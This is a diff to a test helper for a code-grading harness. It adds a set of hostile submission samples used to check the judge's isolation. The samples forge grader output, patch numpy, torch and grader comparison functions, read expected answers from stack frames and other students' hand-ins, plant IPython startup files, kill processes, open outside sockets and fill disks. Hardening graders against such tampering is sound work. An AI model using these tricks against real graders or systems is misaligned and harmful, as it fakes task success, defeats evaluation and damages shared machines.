@@ -198,13 +198,169 @@ flat = lambda module: torch.zeros(1)
 """
 
 
+# Attacks on the judge (tests/test_grader.py), each the source of one blank, `importance-weights` unless its
+# name says otherwise. Each either returns a wrong answer or none at all if its attack fails; none computes the
+# right one. PORT and FOLDER are filled in by the test (a socket it listens on, a folder beside the grader).
+ATTACKS = {
+    "forges the reply on every descriptor": """
+import os
+_forged = b'{"outputs": [{"w": {"~array": ["<f8", [1], "AAAAAAAA8D8="]}}]}\n'
+def importance_weights(priorities, total, size, beta):
+    for fd in range(1024):
+        try:
+            os.write(fd, _forged * 4)
+        except OSError:
+            pass
+    os._exit(0)
+""",
+    "floods every descriptor": """
+import os
+def importance_weights(priorities, total, size, beta):
+    for fd in range(64):
+        for _ in range(8):
+            try:
+                os.write(fd, b"[" * (1 << 24))
+            except OSError:
+                break
+    return priorities
+""",
+    "signals every process it can": """
+import os, signal
+for _sig in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
+    for _pid in (1, -1, os.getppid(), 0):
+        try:
+            os.kill(_pid, _sig)
+        except OSError:
+            pass
+def importance_weights(priorities, total, size, beta):
+    return priorities
+""",
+    "exits with os._exit as it is defined": "import os\nos._exit(0)\n",
+    "raises SystemExit": "def importance_weights(priorities, total, size, beta):\n    raise SystemExit(0)\n",
+    "raises a BaseException": (
+        "class _Out(BaseException):\n    pass\n"
+        "def importance_weights(priorities, total, size, beta):\n    raise _Out()\n"
+    ),
+    "reads the expected values through gc and frames": """
+import gc, inspect, sys
+def importance_weights(priorities, total, size, beta):
+    for frame in inspect.stack():
+        for name in ("want", "expected", "reference", "right"):
+            if name in frame.frame.f_locals:
+                return frame.frame.f_locals[name]
+    for thing in gc.get_objects():
+        if isinstance(thing, dict) and "outputs" in thing:
+            return thing["outputs"][0]["w"]
+    frame = sys._getframe()
+    while frame is not None:
+        for value in frame.f_locals.values():
+            if getattr(value, "shape", None) == priorities.shape and value is not priorities:
+                return value
+        frame = frame.f_back
+    return priorities * 0
+""",
+    "returns an array that agrees with anything": """
+import numpy as np
+class _Agrees(np.ndarray):
+    __eq__ = __ne__ = lambda self, other: True
+    def __array__(self, dtype=None, copy=None):
+        return np.zeros(self.shape)
+    def tobytes(self, order="C"):
+        return b""
+def importance_weights(priorities, total, size, beta):
+    return np.ones_like(priorities).view(_Agrees)
+""",
+    "patches the comparisons, the wire and the harness, from a child and a grandchild too": """
+import json, os, sys
+import numpy as np
+import torch
+def _patch():
+    for module in (np, torch):
+        vars(module)["allclose"] = lambda *a, **k: True
+        vars(module)["array_equal"] = vars(module).get("array_equal") and (lambda *a, **k: True)
+    vars(json)["dumps"] = lambda *a, **k: '{"outputs": []}'
+    for name, module in list(sys.modules.items()):
+        if name.startswith("grader"):
+            for key in list(vars(module)):
+                if key in ("encode", "run", "differs", "_array"):
+                    vars(module)[key] = lambda *a, **k: {"passed": True}
+    torch.Tensor.__eq__ = lambda self, other: torch.ones((), dtype=torch.bool)
+    (lambda: None).__code__
+_patch()
+for _ in range(2):
+    if os.fork() == 0:
+        _patch()
+        if os.fork() == 0:
+            _patch()
+        os._exit(0)
+def importance_weights(priorities, total, size, beta):
+    _patch()
+    return priorities
+""",
+    "opens sockets": """
+import socket
+def importance_weights(priorities, total, size, beta):
+    for address in (("127.0.0.1", PORT), ("1.1.1.1", 80), ("pypi.org", 443)):
+        try:
+            socket.create_connection(address, timeout=2).sendall(b"from the sandbox")
+        except OSError:
+            pass
+    return priorities
+""",
+    "reads the course folder, the runtime folder and other hand-ins": """
+import glob, os
+def importance_weights(priorities, total, size, beta):
+    for pattern in ("FOLDER/**", os.path.expanduser("~/.local/share/jupyter/runtime/*"), "/root/**", "/home/**",
+                    "/proc/1/root/FOLDER/**", "/proc/*/cwd/**", "/work/**/*.ipynb"):
+        for path in glob.glob(pattern, recursive=True)[:1000]:
+            try:
+                if "BEGIN SOLUTION" in open(path).read(1 << 20) or "weights.max()" in open(path).read(1 << 20):
+                    raise SystemExit(f"read {path}")
+            except (OSError, UnicodeDecodeError):
+                pass
+    return priorities
+""",
+    "leaves files for whatever runs next": """
+import os
+for _path in ("/tmp/left-behind", os.path.expanduser("~/.ipython/profile_default/startup/00-cheat.py"),
+              "/opt/contestant/grader/cases.py", "FOLDER/left-behind", "/dev/shm/left-behind"):
+    try:
+        os.makedirs(os.path.dirname(_path), exist_ok=True)
+        with open(_path, "w") as _file:
+            _file.write("import os; os._exit(0)")
+    except OSError:
+        pass
+def importance_weights(priorities, total, size, beta):
+    return priorities
+""",
+    "fills the disk": """
+import os
+def importance_weights(priorities, total, size, beta):
+    for folder in ("/tmp", os.path.expanduser("~"), "/", "/dev/shm"):
+        try:
+            with open(os.path.join(folder, "filler"), "wb") as file:
+                for _ in range(1024):
+                    file.write(b"x" * (1 << 20))
+        except OSError:
+            pass
+    return priorities
+""",
+    "sleeps": "import time\ndef importance_weights(priorities, total, size, beta):\n    time.sleep(3600)\n",
+}
+
+# Files an attack may leave: any of them still there when the next blank is graded is a leak.
+LEFT_BEHIND = ("/tmp/left-behind", "/tmp/.ipython/profile_default/startup/00-cheat.py", "/tmp/filler", "/dev/shm/left-behind")
+
+
 def looping(source: str) -> str:
-    """`source` with `while True: pass` as the first statement of its first function (in a class too)."""
+    """`source` with an endless loop as the first statement of its first function (in a class too): one that
+    numba compiles as well, since nothing tells it the loop never ends."""
     first = next(node for node in ast.walk(ast.parse(source)) if isinstance(node, ast.FunctionDef))
     lines = source.splitlines()
     at = first.body[0].lineno - 1
     indent = lines[at][: len(lines[at]) - len(lines[at].lstrip())]
-    return "\n".join(lines[:at] + [indent + "while True:", indent + "    pass"] + lines[at:]) + "\n"
+    loop = [indent + "spin = 1", indent + "while spin > 0:", indent + "    spin = spin * 1"]
+    return "\n".join(lines[:at] + loop + lines[at:]) + "\n"
 
 
 def changed(source: str, old: str, new: str) -> str:
